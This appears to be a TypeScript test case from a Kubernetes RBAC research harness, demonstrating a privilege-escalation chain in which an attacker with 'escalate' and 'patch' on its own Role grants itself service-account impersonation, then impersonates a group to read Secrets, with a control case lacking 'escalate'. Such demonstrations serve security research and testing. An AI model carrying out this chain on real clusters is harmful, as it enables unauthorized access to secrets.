import { group, mayRead, RBAC } from '../paths/identities/accounts.ts'
import { rbacRule } from '../paths/identities/bindings.ts'
import { readAs } from '../paths/identities/impersonation.ts'
import { demonstrate } from '../paths/demonstration.ts'
import type { Given } from '../paths/given.ts'
import type { Scene } from '../paths/scene.ts'
import { settle } from '../paths/settle.ts'

// Found by the chains that are made up at random: every right in a namespace is worth more
// than its Secrets to whoever may impersonate a group, which takes somebody to be in it.

const members = ({ unique }: Pick<Scene, 'unique'>) => `members-${unique}`
const own = ({ unique }: Pick<Scene, 'unique'>) => `attacker-${unique}`

/** It may rewrite the Role that it has in its own namespace, and impersonate the group. */
function given(scene: Scene, verbs: readonly string[]): Given {
  return {
    rulesIn: {
      [scene.attackerNamespace]: verbs.map((verb) => rbacRule(verb, 'roles', own(scene))),
    },
    clusterRules: [
      {
        apiGroups: [''],
        verbs: ['impersonate'],
        resources: ['groups'],
        resourceNames: [members(scene)],
      },
    ],
    manifests: mayRead(group(members(scene))),
  }
}

demonstrate({
  id: 'I13',
  title: 'who gives itself every right in a namespace may impersonate its accounts, and so a group',
  given: (scene) => given(scene, ['escalate', 'patch']),
  attack: async (attacker, scene) => {
    const { attackerNamespace: namespace } = scene
    const rules = [{ apiGroups: [''], resources: ['serviceaccounts'], verbs: ['impersonate'] }]
    await attacker.patch(`${RBAC}/namespaces/${namespace}/roles/${own(scene)}`, { rules })
    await settle(scene)
    const user = `system:serviceaccount:${namespace}:anybody`
    return readAs(attacker, scene, { user, groups: [members(scene)] })
  },
  without: 'escalate',
  twin: (scene) => given(scene, ['patch']),
})
